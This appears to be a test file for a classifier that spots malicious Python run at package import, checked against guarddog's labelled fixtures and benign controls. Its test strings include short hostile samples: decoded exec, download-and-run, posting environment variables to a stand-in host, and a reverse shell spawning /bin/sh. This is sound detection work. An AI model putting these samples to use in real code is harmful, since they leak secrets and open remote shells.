@@ -1,0 +1,157 @@
+/**
+ * The import-time code classifier (src/checks/lib/import-code.ts) on labelled real-world-derived
+ * snippets: DataDog/guarddog's rule tests (fixtures/import-code/guarddog/, fixtures/PROVENANCE.md),
+ * cut into cases at their `# ruleid:` / `# ok:` annotations — every `ruleid` case must be
+ * flagged, every `ok` case must be clean — and real benign module code as controls.
+ */
+import { readdirSync, readFileSync } from 'node:fs';
+import { describe, expect, it } from 'vitest';
+import { IMPORT_FLAGS, MAX_CALLS, packageImports, readImportCode } from '../../src/checks/lib/import-code.js';
+
+const GUARDDOG = new URL('../../fixtures/import-code/guarddog/', import.meta.url);
+
+interface Case {
+  file: string;
+  line: number;
+  label: 'ruleid' | 'ok';
+  text: string;
+}
+
+/**
+ * A rule test file cut into cases: each case runs from the end of the one before to the first
+ * blank line after its annotation (so it holds the assignments its statement uses). A file
+ * without annotations is one `ruleid` case (guarddog's `threat-*` positives).
+ */
+function casesOf(file: string): Case[] {
+  const lines = readFileSync(new URL(file, GUARDDOG), 'utf8').split('\n');
+  const annotated = lines.flatMap((l, i) => {
+    const m = /^\s*#\s*(ruleid|ok):/.exec(l);
+    return m === null ? [] : [{ line: i, label: m[1] as 'ruleid' | 'ok' }];
+  });
+  if (annotated.length === 0) return [{ file, line: 1, label: 'ruleid', text: lines.join('\n') }];
+  const blank = (i: number): boolean => (lines[i] ?? '').trim() === '';
+  const cases: Case[] = [];
+  let previousEnd = 0;
+  annotated.forEach(({ line, label }, k) => {
+    const next = annotated[k + 1]?.line ?? lines.length;
+    // The end: a blank line followed by top-level code (a function's body stays whole; a lone
+    // `import` line is not the statement the annotation is about).
+    let end = line + 1;
+    while (end < next && !(blank(end) && /^\S/.test(lines[end + 1] ?? '') && !lines.slice(line + 1, end).every((l) => /^\s*(?:import|from)\s/.test(l)))) end += 1;
+    // The start: the top-level block the annotation is in (with the assignments it uses); an
+    // `ok` case never takes in the case before it.
+    let start = line;
+    while (start > 0 && !(blank(start - 1) && /^\S/.test(lines[start] ?? ''))) start -= 1;
+    if (label === 'ok') start = Math.max(start, previousEnd);
+    cases.push({ file, line: line + 1, label, text: lines.slice(start, end).join('\n') });
+    previousEnd = end;
+  });
+  return cases;
+}
+
+/**
+ * guarddog cases left out, by file and annotation line, with the reason: the snippet shows
+ * nothing a reader of the text could call malicious (guarddog's rule matches its own layout).
+ */
+const LEFT_OUT: Record<string, string> = {
+  'obfuscation.py:41': 'the case is `i = 0; print("malicious code here")` — a placeholder with no code to judge',
+};
+
+const FILES = readdirSync(GUARDDOG).filter((f) => f.endsWith('.py')).sort();
+const CASES = FILES.flatMap(casesOf).filter((c) => LEFT_OUT[`${c.file}:${c.line}`] === undefined);
+
+describe('guarddog\'s labelled snippets', () => {
+  it('are all there: eight rule files, with both labels', () => {
+    expect(FILES).toHaveLength(8);
+    expect(CASES.filter((c) => c.label === 'ruleid').length).toBe(64);
+    expect(CASES.filter((c) => c.label === 'ok').length).toBe(10);
+  });
+
+  it.each(CASES.filter((c) => c.label === 'ruleid').map((c) => [`${c.file}:${c.line}`, c] as const))('%s (ruleid) is flagged', (_, c) => {
+    expect(readImportCode(c.text).flags).not.toEqual([]);
+  });
+
+  it.each(CASES.filter((c) => c.label === 'ok').map((c) => [`${c.file}:${c.line}`, c] as const))('%s (ok) is clean', (_, c) => {
+    expect(readImportCode(c.text).flags).toEqual([]);
+  });
+});
+
+describe('what each flag is for', () => {
+  it.each([
+    ['exec-decoded', 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n'],
+    ['download-and-run', 'import requests\npayload = requests.get("http://x.test/s").text\nexec(payload)\n'],
+    ['exfiltration', 'import requests, os\nrequests.post("https://x.test", json=dict(os.environ))\n'],
+    ['exfiltration', 'import getpass as _g, urllib.request as _u\nd = {"u": _g.getuser()}\n_u.urlopen(_u.Request("https://x.test", data=str(d).encode()))\n'],
+    ['silent-process', 'import subprocess\nsubprocess.Popen(["pythonw", "x.py"], creationflags=subprocess.CREATE_NO_WINDOW)\n'],
+    ['dynamic-import', 'm = __import__("so"[::-1])\n'],
+    ['obfuscation', '___ = eval\n'],
+    ['encoded-blob', `import marshal\nexec(marshal.loads(DATA))\nDATA = "${'QUJD'.repeat(300)}"\n`],
+  ] as const)('%s', (label, text) => {
+    const reading = readImportCode(text);
+    expect(reading.flags).toContain(label);
+    expect(reading.excerpts.length).toBeGreaterThan(0);
+  });
+
+  it('a reverse shell (synthetic, the shape of the published one-liners): socket wired to /bin/sh', () => {
+    const text = [
+      'import socket, os, pty',
+      's = socket.socket(socket.AF_INET, socket.SOCK_STREAM)',
+      's.connect(("203.0.113.9", 4444))',
+      'os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)',
+      'pty.spawn("/bin/sh")',
+    ].join('\n');
+    expect(readImportCode(text).flags).toEqual(['reverse-shell']);
+  });
+
+  it('flags come in IMPORT_FLAGS order and excerpts are short single lines', () => {
+    const reading = readImportCode(`import requests, os, base64\nexec(base64.b64decode(requests.get("http://x.test").text))\nrequests.post("https://x.test", data=os.environ.copy() if False else str(os.environ))${' '.repeat(400)}\n`);
+    expect(reading.flags).toEqual(IMPORT_FLAGS.filter((f) => reading.flags.includes(f)));
+    expect(reading.flags).toEqual(['exfiltration', 'download-and-run', 'exec-decoded']);
+    expect(reading.excerpts.every((e) => e.length <= 160 && !e.includes('\n'))).toBe(true);
+  });
+});
+
+describe('the modules a package\'s __init__.py imports from itself', () => {
+  it('relative and absolute forms, parenthesised lists, aliases; other packages and parents left out', () => {
+    const text = [
+      'from .app import Flask as Flask',
+      'from . import json, views as _v',
+      'from . import (',
+      '    signals,',
+      '    typing,',
+      ')',
+      'from pkg.sansio.app import App',
+      'import pkg.cli',
+      'from .. import parent',
+      'from werkzeug import Response',
+      'import os',
+      'try:',
+      '    from ._speedups import fast',
+      'except ImportError:',
+      '    pass',
+    ].join('\n');
+    expect(packageImports(text, 'pkg')).toEqual(['app', 'json', 'views', 'signals', 'typing', '_speedups', 'sansio.app', 'cli']);
+  });
+});
+
+describe('a text padded with calls', () => {
+  it('past MAX_CALLS the reading is not complete and says so with `padded`; a flag found before stays', () => {
+    const padding = 'eval("1")\n'.repeat(MAX_CALLS + 1);
+    expect(readImportCode(padding)).toMatchObject({ flags: ['padded'], excerpts: [`more than ${MAX_CALLS} calls`], complete: false });
+    expect(readImportCode(`import base64\nexec(base64.b64decode("eA=="))\n${padding}`)).toMatchObject({ flags: ['exec-decoded', 'padded'], complete: false });
+    expect(readImportCode('eval("1")\n'.repeat(MAX_CALLS)).complete).toBe(true);
+  });
+});
+
+describe('ordinary library code stays clean', () => {
+  it.each([
+    ['an HTTP client that reads proxies from the environment and sends requests', 'import os, requests\nproxies = {k: v for k, v in os.environ.items() if k.lower().endswith("_proxy")}\ndef fetch(url):\n    return requests.get(url, proxies=proxies, timeout=5)\n'],
+    ['a CLI that runs git and downloads a file', 'import subprocess, urllib.request\nrev = subprocess.check_output(["git", "rev-parse", "HEAD"]).decode("utf-8")\nurllib.request.urlretrieve("https://example.org/data.json", "data.json")\n'],
+    ['a version read by exec of a file', 'ns = {}\nexec(open("pkg/_version.py").read(), ns)\n'],
+    ['re.compile and a bytes literal decoded as UTF-8', 'import re\nPATTERN = re.compile(b"\\\\xff\\\\xfe".decode("latin-1"))\nexec(compile(src.decode("utf-8"), path, "exec"))\n'],
+    ['a plugin loader importing a configured name', 'import os\nmod = __import__(os.environ.get("PLUGIN", "default_plugin"))\n'],
+    ['the hostname resolved to the local address', 'import socket\naddress = socket.gethostbyname(socket.gethostname())\n'],
+  ])('%s', (_, text) => {
+    expect(readImportCode(text).flags).toEqual([]);
+  });
+});
